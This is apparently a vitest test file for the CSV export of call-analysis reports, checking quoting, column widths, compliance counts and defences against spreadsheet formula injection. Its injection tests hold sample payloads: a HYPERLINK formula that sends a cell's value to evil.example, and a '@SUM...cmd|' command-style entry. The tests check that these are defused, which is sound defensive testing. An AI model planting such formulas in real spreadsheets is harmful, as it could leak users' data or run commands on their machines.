import { describe, expect, it } from 'vitest';
import { csvCell, eventsCsv, SUMMARY_CSV_HEADER, summaryCsv } from '../../src/report/csv.js';
import { calmCall, makeReport, threePeakCall, unansweredCall } from './make-report.js';

/** RFC 4180 rows: quoted cells may hold commas, quotes ("") and newlines. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
    } else cell += c;
  }
  expect(quoted, 'an unclosed quote').toBe(false);
  expect(cell === '' && row.length === 0, 'a last row without its newline').toBe(true);
  return rows;
}

/** The rows as objects by column name; every row as wide as the header. */
function records(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text);
  for (const r of rows) expect(r).toHaveLength(header?.length ?? 0);
  return rows.map((r) => Object.fromEntries((header ?? []).map((name, i) => [name, r[i] ?? ''])));
}

describe('eventsCsv', () => {
  it('writes a peak nobody replied to with an empty complied and why in unanswered', () => {
    const text = eventsCsv(unansweredCall());
    expect(text.split('\n')[0]).toBe(
      'type,start,end,durationSec,atPeak,afterPeak,gapSec,levelAboveOwnDb,complied,unanswered,reasons',
    );
    const peaks = records(text).filter((r) => r['type'] === 'customerPeak');
    expect(peaks.map((r) => [r['start'], r['complied'], r['unanswered'], r['reasons']])).toEqual([
      ['2', 'true', '', ''],
      ['13', '', 'customerWentOn', 'no reply: the customer went on before the agent answered'],
      ['27', 'false', '', 'replied after 0.4 s, under the 1 s pause'],
      ['37', '', 'callEnded', 'no reply: the call ended'],
    ]);
  });

  it('has one parseable row per event, of the header’s width', () => {
    const report = threePeakCall();
    const rows = records(eventsCsv(report));
    expect(rows.map((r) => r['type'])).toEqual(report.events.map((e) => e.type));
    expect(rows.map((r) => r['complied'])).toEqual(
      report.events.map((e) => (e.type === 'customerPeak' ? String(e.verdict.complied) : '')),
    );
    expect(rows.every((r) => r['unanswered'] === '')).toBe(true);
  });
});

describe('summaryCsv', () => {
  it('counts the unanswered peaks apart; compliance is of the judged ones', () => {
    const text = summaryCsv([
      { file: 'a.wav', reportName: 'a', report: unansweredCall() },
      { file: 'b, "quoted".wav', reportName: 'b, "quoted"', report: threePeakCall() },
      { file: 'broken.wav', reportName: 'broken', report: null, error: 'not a WAV file' },
    ]);
    expect(text.split('\n')[0]).toBe(SUMMARY_CSV_HEADER.join(','));
    expect(SUMMARY_CSV_HEADER).toContain('unansweredPeaks');
    const rows = records(text);
    expect(
      rows.map((r) => [
        r['file'],
        r['customerPeaks'],
        r['compliedPeaks'],
        r['unansweredPeaks'],
        r['compliance'],
      ]),
    ).toEqual([
      ['a.wav', '4', '1', '2', '0.5'],
      ['b, "quoted".wav', '3', '1', '0', '0.333'],
      ['broken.wav', '', '', '', ''],
    ]);
    expect(rows[2]?.['warnings']).toBe('not a WAV file');
    // the name each call's reports were written under; none for a call that failed
    expect(rows.map((r) => r['reportName'])).toEqual(['a', 'b, "quoted"', '']);
  });

  it('says which file each row is when two calls differ only in case', () => {
    const rows = records(
      summaryCsv([
        { file: 'a.WAV', reportName: 'a.WAV', report: calmCall() },
        { file: 'a.wav', reportName: 'a.wav-2', report: threePeakCall() },
      ]),
    );
    expect(rows.map((r) => [r['file'], r['reportName'], r['customerPeaks']])).toEqual([
      ['a.WAV', 'a.WAV', '0'],
      ['a.wav', 'a.wav-2', '3'],
    ]);
  });
});

describe('formula injection (OWASP CSV injection)', () => {
  it('defuses a file name that a spreadsheet would run as a formula', () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click").wav';
    const text = summaryCsv([
      { file: evil, reportName: evil.slice(0, -4), report: calmCall() },
      { file: '@SUM(1+1)*cmd|.wav', reportName: '@SUM(1+1)*cmd|', report: null, error: '-not a WAV' },
    ]);
    const rows = records(text);
    expect(rows[0]?.['file']).toBe(`'${evil}`);
    expect(rows[0]?.['reportName']).toBe(`'${evil.slice(0, -4)}`);
    expect(rows[1]?.['file']).toBe("'@SUM(1+1)*cmd|.wav");
    expect(rows[1]?.['warnings']).toBe("'-not a WAV");
    // no cell of the file starts with a formula character outside quotes
    for (const line of text.split('\n')) expect(line).not.toMatch(/(^|,)[=+\-@\t\r]/);
  });

  it('quotes every defused cell and puts a quote before texts starting with = + - @ tab or CR', () => {
    for (const s of ['=1+2', '+cmd', '-2+3', '@x', '\tx', '\rx', '-', '=']) {
      expect(csvCell(s)).toBe(`"'${s}"`);
    }
    expect(csvCell('=a,"b"')).toBe(`"'=a,""b"""`);
    expect(csvCell('a=1')).toBe('a=1');
    expect(csvCell('a\rb')).toBe('"a\rb"');
  });

  it('leaves numbers as numbers, negative ones included', () => {
    expect(csvCell(-3.2)).toBe('-3.2');
    expect(csvCell(-0.001)).toBe('-0.001');
    expect(csvCell('-3.2')).toBe('-3.2'); // a plain number written as text is still that number
    expect(csvCell('+1e-3')).toBe('+1e-3');
    expect(csvCell(true)).toBe('true');
    expect(csvCell(null)).toBe('');
    const report = makeReport({
      durationSec: 10,
      agent: [[6, 8]],
      customer: [[2, 5]],
      events: [
        { type: 'raisedVoice', start: 6, end: 8, levelAboveNormalDb: -3.2 },
        { type: 'response', start: 5, end: 6, gapSec: 1, afterPeak: false },
      ],
    });
    const rows = records(eventsCsv(report));
    expect(rows.find((r) => r['type'] === 'raisedVoice')?.['levelAboveOwnDb']).toBe('-3.2');
  });
});
